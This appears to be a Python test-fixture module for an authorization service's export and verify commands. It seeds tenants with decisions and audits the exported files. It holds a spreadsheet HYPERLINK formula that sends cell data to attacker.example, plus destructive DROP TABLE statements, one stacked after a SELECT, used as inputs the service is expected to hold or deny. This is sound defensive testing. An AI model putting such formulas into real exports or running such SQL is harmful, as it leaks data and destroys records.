"""What tests of exports have in common: a service with something recorded, and its auditor."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from counterfoil.cli import main
from deployment import Deployment, deployed
from service import sql_request

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
_ASKED = {"DROP TABLE public.invoices": "needs_approval", "SELECT 1; DROP TABLE secret": "deny"}
Export = Callable[..., tuple[Path, dict[str, Any]]]


@contextmanager
def exportable(folder: Path) -> Iterator[Deployment]:
    """In each tenant: an allow with its outcome, one that waits, and a deny."""
    with deployed(folder) as started:
        for tenant in (started.acme, started.globex):
            run = started.opened(tenant, prompt=FORMULA)["access_token"]
            allowed = started.ask(run)["decision_id"]
            started.call("POST", f"/decisions/{allowed}/outcome", run, {"status": "ok"})
            for sql, effect in _ASKED.items():
                answer = started.call("POST", "/authorize", run, sql_request(sql, None))
                assert answer.json["effect"] == effect, answer.json  # not for want of time
        yield started


def auditor_arguments(deployment: Deployment, folder: Path) -> list[str]:
    """An auditor's credential, and the deployment's configuration."""
    token = folder / "auditor.jwt"
    token.write_text(deployment.acme.person("carol", ["compliance"]))
    return ["--token-file", str(token), "--config", str(deployment.folder / "counterfoil.toml")]


def exporter(auditor: list[str], folder: Path) -> Export:
    """`export(name, *arguments)`: the file and its manifest."""

    def exported(name: str, *arguments: str) -> tuple[Path, dict[str, Any]]:
        path = folder / name
        assert main(["export", "--output", str(path), *arguments, *auditor]) == 0
        manifest = json.loads((folder / f"{name}.manifest.json").read_text())
        return path, manifest["manifest"]

    return exported


def checked(deployment: Deployment, path: Path) -> int:
    key = deployment.service.keys / "receipt.pub"
    manifest = path.with_name(path.name + ".manifest.json")
    return main(["verify", str(manifest), f"--key={key}"])


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]
